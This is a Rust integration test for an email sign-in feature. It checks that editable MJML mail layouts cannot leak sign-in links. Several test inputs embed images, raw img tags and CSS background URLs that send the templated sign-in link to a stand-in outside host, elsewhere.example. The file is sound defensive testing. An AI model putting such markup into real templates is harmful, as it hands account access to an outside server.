//! Sign-in emails: authors of layouts and texts never get the link.

use jarshy::mail::layout::Layout;
use jarshy::model::user::Role;
use jarshy::store::layouts::{self, LayoutRow};
use reqwest::StatusCode;
use rstest_reuse::apply;

use crate::admin_client::AdminClient;
use crate::harness::{TestApp, on_both_databases};

const OWNER: &str = "owner@embassy.example";

/// The shipped design with something that its reader's mail program fetches.
fn leaking(fetched: &str) -> String {
    let shipped = Layout::transactional().mjml.into_owned();
    shipped.replacen("<mj-button", &format!("{fetched}<mj-button"), 1)
}

async fn ask_for_link(app: &TestApp) -> crate::harness::Mail {
    let form = [("email", OWNER), ("by", "link")];
    let asked = AdminClient::nobody(app).post("/admin/sign-in", &form).await;
    assert_eq!(asked.status(), StatusCode::OK);
    app.mail_to(OWNER).await
}

#[apply(on_both_databases)]
async fn an_editor_cannot_capture_sign_in_links_by_a_layout(app: TestApp) {
    let editor = AdminClient::sign_in(&app, "editor@embassy.example", Role::Editor).await;
    let path = "/admin/layouts/letter";
    let image = leaking("<mj-image src=\"https://elsewhere.example/?u={{ button_url }}\" />");
    for (to, form) in [
        (path.to_owned(), ("mjml", image.as_str())),
        (format!("{path}/restore"), ("confirmed", "yes")),
    ] {
        let refused = editor.refused(&to, &[form], 403).await;
        assert!(refused.contains("Only an owner"), "{refused}");
    }
    assert!(
        !editor.page(path).await.contains(">Save<"),
        "no button that is refused"
    );

    let owner = AdminClient::owner(&app).await;
    for fetched in [
        image.as_str(),
        &leaking("<mj-raw><img src=\"{{ button_url }}\"></mj-raw>"),
        &leaking("<mj-text><p style=\"background:url({{ button_url }})\">x</p></mj-text>"),
        &leaking(
            "<mj-text>{% if small_print %}<img src=\"https://elsewhere.example/{{ small_print }}\">{% endif %}</mj-text>",
        ),
    ] {
        let refused = owner.refused(path, &[("mjml", fetched)], 422).await;
        assert!(
            refused.contains("hand sign-in links to other servers"),
            "{fetched}: {refused}"
        );
    }
    let harmless = leaking("<mj-image src=\"https://embassy.example/flag.png\" alt=\"Flag\" />");
    owner.submit(path, &[("mjml", &harmless)]).await;
    let mail = ask_for_link(&app).await;
    assert!(mail.html.contains("flag.png"), "{}", mail.html);
    let link = mail.link("/admin/sign-in/");
    assert!(
        mail.html.contains(&format!("href=\"{link}\"")),
        "{}",
        mail.html
    );
}

#[apply(on_both_databases)]
async fn an_old_layout_that_leaks_sign_in_links_is_not_used(app: TestApp) {
    let row = LayoutRow {
        name: "letter".to_owned(),
        mjml: leaking("<mj-image src=\"https://elsewhere.example/?u={{ button_url }}\" />"),
        changed_at: app.cx.clock.now(),
        changed_by: "editor@embassy.example".to_owned(),
    };
    let mut db = app.cx.store.write().await.unwrap();
    layouts::set(&mut db, &row).await.unwrap();
    db.commit().await.unwrap();
    let mail = ask_for_link(&app).await;
    assert!(!mail.html.contains("elsewhere.example"), "{}", mail.html);
    let link = mail.link("/admin/sign-in/");
    assert!(
        mail.html.contains(&format!("href=\"{link}\"")),
        "the shipped design steps in: {}",
        mail.html
    );
    let path = link.strip_prefix(&app.url).unwrap();
    assert_eq!(
        AdminClient::nobody(&app).post(path, &[]).await.status(),
        StatusCode::SEE_OTHER
    );
}
